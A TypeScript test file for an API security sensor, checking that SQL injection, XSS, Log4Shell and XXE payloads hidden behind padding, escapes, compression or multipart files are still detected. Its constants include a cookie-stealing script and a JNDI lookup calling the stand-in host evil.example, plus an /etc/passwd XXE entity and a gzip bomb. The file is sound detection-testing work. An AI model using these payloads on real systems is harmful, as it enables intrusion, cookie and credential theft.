/** Bodies that are longer than what is kept of them are searched to their end, and where they were not, it is told. */
import { createHash } from 'node:crypto'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import type { Exchange } from '@apiscope/schema'
import { SensorCore } from '../../src/core'
import { FIXTURE_KEY } from '../../src/options'
import { Conversation } from '../support/conversation'

const SQLI = "x' UNION SELECT NULL,login,secret FROM staff-- -"
const XSS = '<script>fetch("//evil.example/"+document.cookie)</script>'
const JNDI = '${jndi:ldap://evil.example/a}'
const XXE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
const ANSWER = 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'
const JSON_TYPE = 'application/json'
const FORM = 'application/x-www-form-urlencoded'
const KIB = 1_024

interface Sent {
  body: string | Buffer
  type?: string
  fields?: string[]
  /** Bytes of a segment. */
  size?: number
}

/** The exchange of a request to an API that has long been sampled. */
function seen({ body, type = JSON_TYPE, fields = [], size = 1_460 }: Sent): {
  exchange: Exchange
  unscored: Record<string, number>
} {
  const all: Exchange[] = []
  const core = new SensorCore(
    { sensor: 's', hmacKey: FIXTURE_KEY },
    { exchange: (e) => void all.push(e), actor() {}, heartbeat() {} },
  )
  const connection = new Conversation(core, '198.51.100.1', 40_000).open()
  const head = 'POST /orders HTTP/1.1\r\nHost: shop.example\r\n'
  for (let i = 0; i < 70; i++)
    connection.send(0, `${head}Content-Type: ${JSON_TYPE}\r\nContent-Length: 7\r\n\r\n{"n":1}`).send(1, ANSWER)
  const bytes = Buffer.from(body as string)
  const fieldLines = fields.map((line) => `${line}\r\n`).join('')
  connection.send(
    0,
    Buffer.concat([
      Buffer.from(`${head}Content-Type: ${type}\r\n${fieldLines}Content-Length: ${bytes.length}\r\n\r\n`),
      bytes,
    ]),
    size,
  )
  connection.send(1, ANSWER).close()
  core.finish()
  expect(all).toHaveLength(71)
  return { exchange: all[70]!, unscored: core.report().unscored ?? {} }
}

const kinds = ({ attacks }: Exchange) => attacks?.map(({ kind }) => kind) ?? []
const row = (i: number) => ({
  id: i,
  name: `Ann Lee ${i}`,
  note: 'Please leave it at the door, thanks!',
  price: i * 1.5,
})
const rows = (bytes: number) => Array.from({ length: Math.ceil(bytes / 80) }, (_, i) => row(i))
const padded = (bytes: number, payload: string, behind = 0) =>
  JSON.stringify([...rows(bytes), { ...row(0), note: payload }, ...rows(behind)])
const form = (bytes: number, payload: string) =>
  `${Array.from({ length: Math.ceil(bytes / 24) }, (_, i) => `field${i}=blue+chair+${i}`).join('&')}&q=${encodeURIComponent(payload)}&z=1`
const part = (name: string, more: string, value: string) =>
  `--B\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`
const MULTIPART = 'multipart/form-data; boundary=B'
const file = (bytes: number, text = 'SELECT 1; -- <script>alert(1)</script>\n') =>
  part('upload', '; filename="a.sql"', text.repeat(Math.ceil(bytes / text.length)))

describe('an attack behind padding is found', () => {
  test.each<[string, Sent, string]>([
    ['JSON, 70 KiB', { body: padded(70 * KIB, SQLI) }, 'sqli'],
    ['JSON, 128 KiB', { body: padded(128 * KIB, SQLI) }, 'sqli'],
    ['JSON, 1 MiB, and 200 KiB behind it', { body: padded(KIB * KIB, JNDI, 200 * KIB) }, 'log4shell'],
    ['JSON, 3 MiB', { body: padded(3 * KIB * KIB, XSS) }, 'xss'],
    [
      'JSON with escapes',
      {
        body: padded(100 * KIB, 'x').replace(
          '"note":"x"',
          `"note":"${[...SQLI].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"`,
        ),
      },
      'sqli',
    ],
    [
      'JSON in UTF-16',
      { body: Buffer.from(padded(60 * KIB, SQLI), 'utf16le'), type: `${JSON_TYPE}; charset=utf-16le` },
      'sqli',
    ],
    ['a form', { body: form(100 * KIB, SQLI), type: FORM }, 'sqli'],
    ['a form, encoded twice', { body: form(100 * KIB, encodeURIComponent(XSS)), type: FORM }, 'xss'],
    [
      'one long value',
      {
        body: JSON.stringify({
          note: `${'We ordered the blue lamp last week. '.repeat(4_000)}${SQLI}${' It came with a scratch.'.repeat(2_000)}`,
        }),
      },
      'sqli',
    ],
    [
      'one long value of one letter',
      { body: JSON.stringify({ note: `${'a'.repeat(200_000)} ${JNDI} ${'b'.repeat(50_000)}` }) },
      'log4shell',
    ],
    [
      'markup',
      {
        body: `<r>${'<v>blue chair</v>'.repeat(6_000)}<v>${SQLI.replace(/'/g, '&apos;')}</v></r>`,
        type: 'application/xml',
      },
      'sqli',
    ],
    ['a field behind a file', { body: `${file(100 * KIB)}${part('q', '', SQLI)}--B--\r\n`, type: MULTIPART }, 'sqli'],
    [
      'a declaration in a file',
      { body: `${file(100 * KIB, 'blue chair\n').slice(0, -2)}${XXE}\r\n--B--\r\n`, type: MULTIPART },
      'xxe',
    ],
    ['gzip', { body: gzipSync(padded(300 * KIB, SQLI)), fields: ['Content-Encoding: gzip'] }, 'sqli'],
    ['brotli', { body: brotliCompressSync(padded(300 * KIB, XSS)), fields: ['Content-Encoding: br'] }, 'xss'],
    ['small segments', { body: padded(70 * KIB, SQLI), size: 97 }, 'sqli'],
  ])('%s', (_, sent, kind) => {
    const { exchange, unscored } = seen(sent)
    expect(kinds(exchange)).toContain(kind)
    expect(exchange.scored).toBe(true)
    expect(unscored['sensor.bodies_partly_scored']).toBe(0)
  })

  test.each(Array.from({ length: 9 }, (_, i) => 65_536 - 64 + 16 * i))('across the end of what is kept: %i', (at) => {
    const before = '{"note":"'
    const body = `${before}${'a '.repeat(40_000).slice(0, at - before.length)}${SQLI} ${'b '.repeat(4_000)}"}`
    expect(kinds(seen({ body }).exchange)).toContain('sqli')
  })
})

test('decoys of the same kind of marks do not keep the attack out of sight', () => {
  const decoys = Array.from({ length: 4_000 }, (_, i) => ({
    note: `Rock 'n' roll #${i}; select & order by phone -- or e-mail`,
  }))
  const { exchange } = seen({ body: JSON.stringify([...decoys, { note: SQLI }]) })
  expect(kinds(exchange)).toContain('sqli')
})

test('a body that is decoded in part says so', () => {
  const bomb = gzipSync(`${'{"a":"b"}\n'.repeat(200_000)}{"q":${JSON.stringify(JNDI)}}`)
  const { exchange, unscored } = seen({ body: bomb, fields: ['Content-Encoding: gzip'] })
  expect(exchange.scored).toBe('partly')
  expect(unscored['sensor.bodies_partly_scored']).toBe(1)
})

test('more suspicion than is looked into is told', () => {
  const { exchange, unscored } = seen({ body: JSON.stringify(Array.from({ length: 4_000 }, (_, i) => `${SQLI} ${i}`)) })
  expect(exchange.scored).toBe('partly')
  expect(unscored['sensor.values_not_scored']).toBeGreaterThan(0)
})

test('ordinary long bodies have no verdicts and were looked at whole', () => {
  for (const sent of [
    { body: JSON.stringify(rows(300 * KIB)) },
    { body: `${file(200 * KIB)}--B--\r\n`, type: MULTIPART },
    {
      body: Buffer.concat(Array.from({ length: 6_000 }, (_, i) => createHash('sha256').update(`${i}`).digest())),
      type: 'application/octet-stream',
    },
    { body: gzipSync(JSON.stringify(rows(300 * KIB))), fields: ['Content-Encoding: gzip'] },
  ]) {
    const { exchange } = seen(sent)
    expect(exchange.attacks).toBeUndefined()
    expect(exchange.scored).toBe(true)
  }
})
